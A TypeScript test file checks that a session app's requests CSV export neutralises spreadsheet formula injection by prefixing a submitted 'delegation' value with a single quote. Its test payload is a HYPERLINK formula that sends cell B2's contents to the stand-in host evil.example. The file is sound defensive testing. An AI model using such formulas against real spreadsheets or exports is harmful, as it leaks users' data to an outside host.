/**
 * Spreadsheet formula injection, end to end: a phone asks for the floor for a "delegation" that is
 * a formula, and the requests CSV the secretariat downloads over HTTP holds it as guarded text.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { parseCsv } from '../../shared/programmeCsv.ts';
import { SESSION, startServer, TOKEN, type TestServer } from './helpers.ts';

let server: TestServer | null = null;
afterEach(async () => {
  await server?.close();
  server = null;
});

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';

describe('the requests CSV', () => {
  it('writes a formula typed on a phone as text, behind a single quote', async () => {
    server = await startServer();
    const moderator = await server.moderator();
    for (const command of [
      { type: 'session.start' },
      { type: 'segment.end' },
      { type: 'floor.open' },
    ]) {
      expect(await moderator.command(command)).toMatchObject({ ok: true });
    }
    const phone = await server.connect({ deviceKey: 'phone-of-mallory-0123456789abcdef' });
    expect(
      await phone.command({ type: 'floor.request', delegation: HYPERLINK, kind: 'statement' }),
    ).toMatchObject({ ok: true });

    const res = await server.http(
      'GET',
      `/api/sessions/${SESSION}/record?format=csv&table=requests`,
      { token: TOKEN },
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/text\/csv/);
    const [header, row] = parseCsv(res.text, ',');
    const delegation = row?.cells[header?.cells.indexOf('delegation') ?? -1];
    expect(delegation).toBe(`'${HYPERLINK}`);
    expect(delegation?.startsWith("'=")).toBe(true);
  });
});
